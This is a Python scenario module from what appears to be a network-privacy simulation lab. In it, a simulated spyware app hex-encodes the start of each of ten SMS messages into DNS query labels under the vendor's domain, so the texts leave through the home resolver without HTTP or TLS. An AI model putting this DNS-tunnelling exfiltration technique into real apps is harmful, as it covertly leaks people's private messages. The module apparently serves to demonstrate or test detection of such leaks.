"""Text messages leave as questions for names.

The beginning of a message, in hexadecimal digits split into labels, is asked for as a name under the
vendor's own domain; the answer is an address that nobody uses. There is no HTTP, no TLS; what answers is
the home's resolver.
"""

from __future__ import annotations

from datetime import timedelta
from typing import TYPE_CHECKING

from wirelab.claims import DOMAIN
from wirelab.datum import Datum, Mark
from wirelab.misdeed.spy import APP
from wirelab.owner.messages import Message
from wirelab.vendor.honest import tell_honestly

if TYPE_CHECKING:
    from wirelab.stage import Stage

TITLE = "Messages leave as names"
MOST = 90
"""Bytes of a message that fit into one name."""


def play(stage: Stage) -> None:
    """The whole course of events."""
    tell_honestly(stage)
    stage.lab.dns.zone(f"d.{DOMAIN}", lambda _, qtype: [("A", "42.62.94.99")] if qtype == "A" else [])

    def ask(message: Message) -> None:
        digits = message.body.encode()[:MOST].hex()
        labels = [digits[start : start + 60] for start in range(0, len(digits), 60)]
        data = (Datum("sms.body", message.fact, ("dns", "hex"), "name"),)
        stage.phone.query(f"{'.'.join(labels)}.d.{DOMAIN}", "A", APP, mark=Mark(data))

    for number, message in enumerate(stage.owner.messages[:10]):
        moment = stage.day(1, "01:15") + timedelta(hours=5 * number)
        stage.at(moment, lambda message=message: ask(message))  # type: ignore[misc]
